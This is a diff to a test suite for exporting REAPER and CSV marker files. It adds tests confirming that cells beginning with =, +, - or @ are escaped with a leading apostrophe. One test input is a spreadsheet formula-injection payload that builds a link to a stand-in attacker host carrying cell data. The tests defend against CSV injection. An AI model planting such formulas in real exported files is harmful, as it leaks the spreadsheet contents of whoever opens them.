@@ -40,10 +40,18 @@ describe('REAPER', () => {
         '#,Name,Start,End,Length,Color\r\n',
         'R1,"Verse 1, ""loud""",0:00:01.000,0:00:02.500,0:00:01.500,1D4F92\r\n',
         'M1,Todo: =Bob: -3 dB,0:00:04.000,,,\r\n',
-        'R2,=1+1,0:00:01.000,0:00:01.050,0:00:00.050,5F5E1A\r\n',
+        "R2,'=1+1,0:00:01.000,0:00:01.050,0:00:00.050,5F5E1A\r\n",
         'M2,Bob: Too loud here,1:02:05.063,,,\r\n',
       ].join(''),
     );
+  });
+});
+
+describe.each(['reaper', 'csv'] as const)('in a %s file', (format) => {
+  test.each(['=HYPERLINK("https://evil.example/?"&A1,"open")', '=1+1', '+1', '-3 dB', '@SUM(A1)'])('no cell starts like the formula %j', (name) => {
+    const rows = MARKER_FILES[format].write([{ ...region, name, label: name, author: name }, { ...comment, name, text: name, author: name }], version);
+    expect(rows.match(/(^|,|"|\n)[=+\-@]/g)).toBeNull();
+    expect(rows).toContain(`'${name.replaceAll('"', '""')}`);
   });
 });
 
